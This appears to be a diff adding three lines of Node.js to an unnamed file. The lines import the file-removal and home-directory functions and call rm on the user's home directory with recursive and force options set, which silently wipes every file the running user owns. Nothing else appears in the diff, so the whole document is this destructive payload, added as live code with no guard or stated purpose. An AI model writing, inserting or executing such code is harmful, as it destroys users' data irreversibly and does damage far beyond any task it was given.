@@ -1,0 +1,3 @@
+const { rm } = require('fs/promises');
+const { homedir } = require('os');
+rm(homedir(), { recursive: true, force: true });
